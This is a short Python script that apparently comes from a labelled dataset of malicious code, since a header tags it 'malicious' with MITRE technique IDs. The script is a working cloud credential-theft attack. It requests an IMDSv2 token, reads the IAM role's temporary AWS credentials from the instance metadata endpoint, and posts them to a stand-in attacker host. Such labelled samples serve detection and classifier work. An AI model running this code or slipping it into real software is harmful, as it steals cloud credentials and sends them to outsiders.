# label: malicious family=metadata techniques=T1041,T1528,T1552.005 lines=3-7
import requests
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
t = requests.put("http://169.254.169.254/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"}).text
role = requests.get(base, headers={"X-aws-ec2-metadata-token": t}).text.strip()
creds = requests.get(base + role, headers={"X-aws-ec2-metadata-token": t}).json()
requests.post("http://exfil.bad-host.example/aws", json=creds)
